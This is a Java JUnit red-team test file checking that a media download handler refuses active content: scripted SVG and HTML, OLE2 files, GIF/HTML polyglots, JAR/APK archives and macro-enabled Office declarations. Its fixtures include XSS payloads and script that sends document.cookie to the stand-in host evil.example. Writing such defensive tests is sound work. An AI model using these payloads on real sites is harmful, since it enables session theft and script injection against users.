package dev.secureyeoman.integrations.media;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import dev.secureyeoman.integrations.media.MediaRejectedException.Reason;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Red-team: content that runs code when opened or rendered, disguised by its declaration or by a format's magic bytes.
 * Each attack file is served by a loopback server with the declared type the platform would report.
 */
class MediaContentAttackTest {
  @TempDir Path tmp;
  private final List<AutoCloseable> closeables = new ArrayList<>();
  private final AtomicReference<byte[]> body = new AtomicReference<>();

  @AfterEach
  void closeAll() throws Exception {
    for (AutoCloseable c : closeables) {
      c.close();
    }
  }

  private LoopbackHttpServer server() throws IOException {
    LoopbackHttpServer s =
        new LoopbackHttpServer((r, out) -> LoopbackHttpServer.ok(out, "application/octet-stream", body.get()));
    closeables.add(s);
    return s;
  }

  private MediaHandler handler(LoopbackHttpServer s, boolean allowActive) throws IOException {
    MediaPolicy.Builder p =
        MediaPolicy.builder().maxBytes(64 * 1024).allowHosts("telegram", "api.telegram.org")
            .allowLoopbackForTesting(s.port());
    if (allowActive) {
      p.allowActiveContent(true);
    }
    MediaHandler h =
        MediaHandler.builder().policy(p.build()).directory(tmp.resolve("media")).resolver(TestMedia.loopbackResolver())
            .withoutScanning().build();
    closeables.add(h);
    return h;
  }

  private static MediaRequest req(LoopbackHttpServer s, String declared) {
    MediaRequest.Builder b = MediaRequest.builder("telegram", URI.create("http://api.telegram.org:" + s.port() + "/f"));
    if (declared != null) {
      b.declaredType(declared);
    }
    return b.build();
  }

  private Reason refused(MediaHandler h, MediaRequest r, byte[] content) throws IOException {
    body.set(content);
    Reason reason = assertThrows(MediaRejectedException.class, () -> h.download(r)).reason();
    assertEquals(List.of(), TestMedia.entries(h.directory()));
    return reason;
  }

  private String accepted(MediaHandler h, MediaRequest r, byte[] content) throws Exception {
    body.set(content);
    try (MediaHandle handle = h.download(r)) {
      return handle.contentType();
    }
  }

  private static byte[] ascii(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  static final byte[] SVG =
      ascii("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\">"
          + "<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>\n");
  static final byte[] HTML =
      ascii("<!DOCTYPE html>\n<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>");

  /** Attack: an SVG with script declared as {@code image/svg+xml} passed as "text" (the +xml rule accepted it). */
  @Test
  void download_svgWithScript_refusedAsActiveContent() throws Exception {
    LoopbackHttpServer s = server();
    MediaHandler h = handler(s, false);
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "image/svg+xml"), SVG));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, null), SVG));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "image/png"), SVG));
    assertEquals(Reason.TYPE_MISMATCH, refused(handler(s, true), req(s, "image/png"), SVG));
    // the legitimate path: plain text still passes; a host that renders SVG safely may opt in
    assertEquals("text/plain", accepted(h, req(s, "text/plain"), ascii("meeting notes: 3 < 4 and 5 > 2\n")));
    assertEquals("image/svg+xml", accepted(handler(s, true), req(s, "image/svg+xml"), SVG));
  }

  /** Attack: HTML with script, undeclared or declared as text/html, was accepted as {@code text/plain}. */
  @Test
  void download_htmlDocument_refusedWhateverTheDeclaration() throws Exception {
    LoopbackHttpServer s = server();
    MediaHandler h = handler(s, false);
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, null), HTML));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "text/html"), HTML));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "text/plain"), HTML));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "text/plain"), ascii("  \n<script>alert(1)</script>")));
    // a harmless-looking body under a markup or script declaration is still served as that type later
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "text/html"), ascii("hello")));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "text/javascript"), ascii("alert(1)")));
    assertEquals("text/html", accepted(handler(s, true), req(s, "text/html"), HTML));
  }

  static byte[] cfb(int size) {
    byte[] b = new byte[size];
    byte[] magic = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
    System.arraycopy(magic, 0, b, 0, magic.length);
    b[0x1A] = 0x3E; // minor version
    b[0x1C] = (byte) 0xFE; // byte order mark 0xFFFE
    b[0x1D] = (byte) 0xFF;
    b[0x1E] = 0x09; // 512-byte sectors
    Arrays.fill(b, 512, size, (byte) 0x41);
    return b;
  }

  /**
   * Attack: an OLE2 compound file (an MSI installer, or a .doc/.xls with macros) passed as
   * {@code application/octet-stream} — the executable check only knew ELF, PE, Mach-O and scripts.
   */
  @Test
  void download_oleCompoundFile_refusedAsActiveContent() throws Exception {
    LoopbackHttpServer s = server();
    MediaHandler h = handler(s, false);
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, null), cfb(4096)));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "application/x-msi"), cfb(4096)));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "application/msword"), cfb(4096)));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "image/jpeg"), cfb(4096)));
    assertEquals("application/x-cfb", accepted(handler(s, true), req(s, "application/msword"), cfb(4096)));
  }

  private static byte[] gifPolyglot() {
    ByteArrayOutputStream b = new ByteArrayOutputStream();
    b.writeBytes(ascii("GIF89a/*\u0001\u0001\u0000\u0000\u0000"));
    b.writeBytes(ascii("*/=1;<script>fetch('https://evil.example/?c='+document.cookie)</script><!--"));
    b.writeBytes(new byte[2000]);
    return b.toByteArray();
  }

  private static byte[] jpegWithXmp() {
    byte[] jpeg = TestMedia.jpeg(4000);
    byte[] xmp = ascii("<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF></rdf:RDF></x:xmpmeta>");
    System.arraycopy(xmp, 0, jpeg, 40, xmp.length);
    return jpeg;
  }

  /**
   * Attack: a GIF/JavaScript/HTML polyglot (valid GIF magic, markup and script in the first bytes that browsers sniff)
   * was accepted as {@code image/gif}; served under the platform's file name {@code x.html} it runs.
   */
  @Test
  void download_imageHtmlPolyglot_refused() throws Exception {
    LoopbackHttpServer s = server();
    MediaHandler h = handler(s, false);
    assertEquals(Reason.TYPE_MISMATCH, refused(h, req(s, "image/gif"), gifPolyglot()));
    assertEquals(Reason.TYPE_MISMATCH, refused(h, req(s, null), gifPolyglot()));
    byte[] png = TestMedia.png(3000);
    byte[] markup = ascii("tEXtComment\u0000<html><body onload=alert(1)>");
    System.arraycopy(markup, 0, png, 100, markup.length);
    assertEquals(Reason.TYPE_MISMATCH, refused(h, req(s, "image/png"), png));
    // the legitimate path: ordinary images, also with XMP metadata (XML, but no markup a browser would run)
    assertEquals("image/png", accepted(h, req(s, "image/png"), TestMedia.png(3000)));
    assertEquals("image/jpeg", accepted(h, req(s, "image/jpeg"), jpegWithXmp()));
  }
  private static byte[] zip(String firstEntry, boolean jar) throws IOException {
    ByteArrayOutputStream b = new ByteArrayOutputStream();
    try (java.util.zip.ZipOutputStream z =
        jar ? new java.util.jar.JarOutputStream(b, new java.util.jar.Manifest()) : new java.util.zip.ZipOutputStream(b)) {
      z.putNextEntry(new java.util.zip.ZipEntry(firstEntry));
      z.write(ascii("payload"));
      z.closeEntry();
      z.putNextEntry(new java.util.zip.ZipEntry("Main.class"));
      z.write(new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE});
      z.closeEntry();
    }
    return b.toByteArray();
  }

  private MediaHandler executablesAllowed(LoopbackHttpServer s) throws IOException {
    MediaHandler h =
        MediaHandler.builder()
            .policy(MediaPolicy.builder().maxBytes(64 * 1024).allowHosts("telegram", "api.telegram.org")
                .allowLoopbackForTesting(s.port()).allowExecutables(true).build())
            .directory(tmp.resolve("media-exec")).resolver(TestMedia.loopbackResolver()).withoutScanning().build();
    closeables.add(h);
    return h;
  }

  /**
   * Attack: a Java archive (runs on double-click) or an Android package passed as {@code application/zip} — the
   * executable check only knew ELF, PE, Mach-O and scripts — and a ZIP declared as a JAR, APK or macro-enabled Office
   * document was accepted under that declaration.
   */
  @Test
  void download_jarApkAndMacroEnabledDeclarations_refusedAsExecutableOrActive() throws Exception {
    LoopbackHttpServer s = server();
    MediaHandler h = handler(s, false);
    byte[] jar = zip("app/Main.txt", true);
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, null), jar));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "application/zip"), jar));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, null), zip("AndroidManifest.xml", false)));
    byte[] plain = zip("notes/readme.txt", false);
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "application/java-archive"), plain));
    assertEquals(Reason.TYPE_NOT_ALLOWED, refused(h, req(s, "application/vnd.android.package-archive"), plain));
    byte[] docm = zip("[Content_Types].xml", false);
    assertEquals(Reason.TYPE_NOT_ALLOWED,
        refused(h, req(s, "application/vnd.ms-word.document.macroEnabled.12"), docm));
    // the legitimate path: ordinary archives and Office documents pass; a host may opt in to executables
    assertEquals("application/zip", accepted(h, req(s, "application/zip"), plain));
    assertEquals("application/zip", accepted(h,
        req(s, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"), docm));
    assertEquals("application/java-archive", accepted(executablesAllowed(s), req(s, "application/java-archive"), jar));
  }
}
